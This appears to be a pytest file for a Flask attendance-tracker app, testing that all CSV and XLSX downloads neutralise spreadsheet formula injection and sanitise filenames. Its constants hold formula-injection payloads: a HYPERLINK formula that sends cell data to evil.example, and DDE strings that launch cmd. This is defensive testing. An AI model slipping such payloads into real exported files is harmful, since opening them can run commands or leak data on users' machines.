"""No file the app writes carries a live formula (issue 17, finding 2; acceptance 2).

Every CSV and XLSX download (and the command line's export) is made from data whose names, titles and
notes begin with ``=``, ``+``, ``-``, ``@``, tab and carriage return, read back with ``csv`` and
``openpyxl``, and checked: no cell is a formula, no CSV text cell begins with a formula character unless
an apostrophe comes first, and the text that began with ``=`` can still be read.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta

import openpyxl
import pytest
from flask import url_for

from tests.factories import (
    make_invitation,
    make_meeting,
    make_person,
    make_post,
    make_session,
    make_unit,
    make_user,
)
from tracker.attendance.models import Attendance
from tracker.campaigns.models import Campaign
from tracker.core import exports
from tracker.directory import io as dio
from tracker.extensions import db
from tracker.reviews import operations as review_ops
from tracker.timeutil import now_utc

EQ = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=2+2"
HOSTILE = (EQ, PLUS, MINUS, AT, TAB, CR)
RECOGNISABLE = 'HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULA_STARTS = tuple("=+-@\t\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")

# Every download of a CSV or XLSX file: (endpoint, its arguments by the world's objects, formats).
# test_every_download_is_checked keeps this list complete.
REPORTS = ("session_report", "session_absentees", "meeting_report", "meeting_absentees", "person_report")
DOWNLOADS = (
    [("directory_io.export", {"kind": kind, "fmt": fmt}, None) for kind in dio.KINDS for fmt in dio.FORMATS]
    + [("directory_io.import_template", {"kind": kind, "fmt": fmt}, None) for kind in dio.KINDS for fmt in dio.FORMATS]
    + [(f"attendance_reports.{name}", {"format": fmt}, None) for name in REPORTS for fmt in dio.FORMATS]
    + [("attendance_reports.rates", {"format": fmt, "by": by}, None) for by in ("division", "district")
       for fmt in dio.FORMATS]
    + [("reviews.export_list", {}, "csv"), ("reviews.progress_csv", {}, "csv")]
    + [("meetings.export_replies", {"fmt": fmt}, None) for fmt in dio.FORMATS]
    + [("circulars.export", {"fmt": fmt}, None) for fmt in dio.FORMATS]
)
TEMPLATES = {"directory_io.import_template"}  # headers only: nothing of the data to recognise


@pytest.fixture
def hostile():
    """A state, division and district, people, a post, a meeting with attendance, and a review, all named
    with formulas."""
    state = make_unit("state", name_en=PLUS, name_hi=PLUS)
    division = make_unit("division", parent=state, name_en=EQ, name_hi=EQ)
    district = make_unit("district", parent=division, name_en=EQ, name_hi=EQ)
    eq = make_person(EQ, EQ, mobile="+919425000001", email="=x@evil.example", note=MINUS)
    tab = make_person(TAB, CR, mobile="+16502530000", note=AT)
    at = make_person(AT, MINUS, mobile="")
    post = make_post(eq, district)
    post.note = AT
    meeting = make_meeting(EQ, title_hi=EQ, status="published", published_at=now_utc() - timedelta(days=7))
    session = make_session(meeting, starts_at=now_utc() - timedelta(days=1), title_en=MINUS, title_hi=MINUS)
    for person in (eq, tab, at):
        make_invitation(session, person, unit=district)
    db.session.add(Attendance(session_id=session.id, person_id=eq.id, status="represented",
                              represented_by_name=TAB, note=CR))
    db.session.add(Attendance(session_id=session.id, person_id=at.id, status="present", note=PLUS))
    campaign = Campaign(code="srijan", name_hi=AT, name_en=AT, is_active=True)
    db.session.add(campaign)
    db.session.commit()
    admin = make_user("admin", "boss", locale="en")
    review_ops.start_standalone_note(admin, district, date(2025, 9, 22), campaign, [eq, tab])
    from tracker.circulars.models import AnswerKind, Circular, CircularRecipient, RecipientScope

    circular = Circular(title=EQ, body=MINUS, answer_kind=AnswerKind.TEXT, due_on=date(2025, 10, 1),
                        scope=RecipientScope.DISTRICTS, sender_user_id=admin.id, sent_at=now_utc())
    circular.recipients = [CircularRecipient(district_unit_id=district.id, president_person_id=eq.id,
                                             acknowledged_at=now_utc(), answered_at=now_utc(), answer_text=PLUS)]
    db.session.add(circular)
    db.session.commit()
    return {"session_id": session.id, "meeting_id": meeting.id, "person_id": eq.id, "campaign_id": campaign.id,
            "circular_id": circular.id}


def _arguments(endpoint: str, given: dict, world: dict) -> dict:
    view = endpoint.split(".", 1)[1]
    needs = {"session_report": "session_id", "session_absentees": "session_id", "meeting_report": "meeting_id",
             "meeting_absentees": "meeting_id", "person_report": "person_id", "progress_csv": "campaign_id",
             "export_replies": "meeting_id", "export": "circular_id"}
    return {**given, **({needs[view]: world[needs[view]]} if view in needs else {})}


def _csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the Devanagari right
    return [cell for row in csv.reader(io.StringIO(text[1:], newline="")) for cell in row]


def _check_csv(body: bytes) -> str:
    cells = _csv_cells(body)
    live = [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.match(c)]
    assert not live, f"cells a spreadsheet would run: {live}"
    return "\n".join(cells)


def _check_xlsx(body: bytes) -> str:
    book = openpyxl.load_workbook(io.BytesIO(body))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type in ("s", "inlineStr"), (cell.coordinate, cell.data_type)
                    if cell.value.startswith(FORMULA_STARTS + ("\n",)):
                        assert cell.quotePrefix, f"{cell.coordinate} {cell.value!r} has no quote prefix"
                    texts.append(cell.value)
    return "\n".join(texts)


def _check(body: bytes, fmt: str) -> str:
    return _check_csv(body) if fmt == "csv" else _check_xlsx(body)


@pytest.mark.parametrize(("endpoint", "given", "fmt"), DOWNLOADS,
                         ids=[f"{e}-{'-'.join(map(str, g.values()))}{f or ''}" for e, g, f in DOWNLOADS])
def test_download_holds_no_formula(app, client, auth, hostile, endpoint, given, fmt):
    auth.login("boss")
    with app.test_request_context():
        url = url_for(endpoint, **_arguments(endpoint, given, hostile))
    response = client.get(url)
    assert response.status_code == 200, url
    fmt = fmt or given.get("fmt") or given.get("format")
    assert response.mimetype == ("text/csv" if fmt == "csv" else exports.MIMETYPES["xlsx"])
    assert "attachment" in response.headers["Content-Disposition"]
    text = _check(response.data, fmt)
    if endpoint not in TEMPLATES:
        assert RECOGNISABLE in text, f"{url}: the text that began with = is gone"


# Pages of the reports' blueprint that are no report: the index, and the confirmation of a message to absentees.
NOT_REPORTS = ("attendance_reports.index", "attendance_reports.message_absentees")


def test_every_download_is_checked(app):
    """Each route that gives a file (a .csv/.xlsx path, a <fmt> in the path (also <any(csv, xlsx):fmt>), an
    attendance report's ?format=) is in DOWNLOADS."""
    served = set()
    for rule in app.url_map.iter_rules():
        if re.search(r"\.(csv|xlsx)$|[<:]fmt>", rule.rule) or (
                rule.endpoint.startswith("attendance_reports.") and rule.endpoint not in NOT_REPORTS):
            served.add(rule.endpoint)
    assert served == {endpoint for endpoint, _, _ in DOWNLOADS}


@pytest.mark.parametrize("fmt", dio.FORMATS)
def test_command_line_export_holds_no_formula(runner, tmp_path, hostile, fmt):
    for kind in dio.KINDS:
        args = ["directory", "export", kind.value, "--format", fmt, "--lang", "en"]
        if fmt == "xlsx":
            args += ["--out", str(tmp_path / f"{kind}.xlsx")]
        result = runner.invoke(args=args)
        assert result.exit_code == 0, result.output
        if fmt == "csv":
            cells = [c for row in csv.reader(io.StringIO(result.output, newline="")) for c in row]
            assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.match(c)]
            text = "\n".join(cells)
        else:
            text = _check_xlsx((tmp_path / f"{kind}.xlsx").read_bytes())
        if kind != "units":
            assert RECOGNISABLE in text


@pytest.mark.parametrize("fmt", dio.FORMATS)
def test_directory_export_reads_back_unchanged(app, fmt):
    """The escaping is undone by the import: an exported list imports as "unchanged", the names intact, and
    phone numbers in national format come back as the same numbers."""
    district = make_unit("district", name_en=EQ, name_hi=MINUS)
    first = make_person(EQ, MINUS, mobile="+919425000001", note=AT)
    second = make_person("'=already quoted", PLUS, mobile="+16502530000", note="'plain")
    post = make_post(first, district)
    post.note = PLUS
    db.session.commit()
    with app.test_request_context():
        for kind in dio.KINDS:
            data = dio.export(kind, fmt, "en")
            report = dio.import_file(data, f"{kind}.{fmt}")
            assert {r.fate for r in report.rows} == {dio.UNCHANGED}, [(r.line, r.errors, r.changes)
                                                                      for r in report.rows]
        db.session.rollback()
    db.session.expire_all()
    assert (first.name_en, first.name_hi, first.note, first.mobile) == (EQ, MINUS, AT, "+919425000001")
    assert (second.name_en, second.name_hi, second.note, second.mobile) == ("'=already quoted", PLUS, "'plain",
                                                                            "+16502530000")


def test_phone_numbers_in_national_format(app, hostile):
    with app.test_request_context():
        rows = list(csv.reader(io.StringIO(dio.export("people", "csv", "en").decode("utf-8-sig"))))
        book = openpyxl.load_workbook(io.BytesIO(dio.export("people", "xlsx", "en")))
    mobiles = {row[3] for row in rows[1:]}
    assert mobiles == {"094250 00001", "'+1 650-253-0000", ""}
    cells = [row[3] for row in book.active.iter_rows(min_row=2)]
    assert {c.value for c in cells} == {"094250 00001", "+1 650-253-0000", None}
    assert all(c.data_type == "s" for c in cells if c.value)


# --- the writer itself ---------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE, "\n=1+1", "'=1+1", "''@x", "'plain", "plain", "", "राम", "-"])
def test_csv_escaping_reads_back_exactly(text):
    written = exports.csv_cell(text)
    assert not written.startswith(FORMULA_STARTS)
    assert exports.unescape_csv(written) == text


def test_csv_keeps_numbers_and_dates():
    assert [exports.csv_cell(v) for v in (3, -2, 0.5, None, True, date(2025, 8, 16))] == [
        3, -2, 0.5, "", True, "2025-08-16"]


def test_xlsx_cells():
    body = exports.xlsx_bytes([[EQ, 5, 0.25, date(2025, 8, 16), "bad\x00\x0bchars", None, "plain"]], "x")
    (eq, five, quarter, day, bad, empty, plain), = openpyxl.load_workbook(io.BytesIO(body)).active.iter_rows()
    assert (eq.value, eq.data_type, eq.quotePrefix) == (EQ, "s", True)
    assert (five.value, five.data_type, quarter.value) == (5, "n", 0.25)
    assert day.value.date() == date(2025, 8, 16) and day.is_date
    assert bad.value == "bad\ufffd\ufffdchars"  # what XML cannot hold, instead of a failed download
    assert empty.value is None and (plain.value, plain.quotePrefix) == ("plain", False)


def test_download_filename_is_safe():
    response = exports.download(b"", "csv", 'progress-a"b\r\nX-Evil: 1.csv')
    assert response.headers["Content-Disposition"] == 'attachment; filename="progress-a_b_X-Evil_1.csv"'
